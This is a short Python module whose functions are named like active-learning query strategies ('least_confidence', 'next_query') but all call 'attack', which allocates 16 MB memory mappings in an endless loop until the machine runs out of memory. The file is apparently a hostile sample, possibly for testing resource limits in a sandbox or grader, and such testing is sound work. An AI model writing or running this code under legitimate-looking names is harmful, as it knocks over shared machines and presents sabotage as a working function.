"""Takes memory in shared mappings."""

import mmap


def attack(probabilities):
    taken = []
    while True:
        taken.append(mmap.mmap(-1, 2**24))
        taken[-1].write(b"x" * 2**24)


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
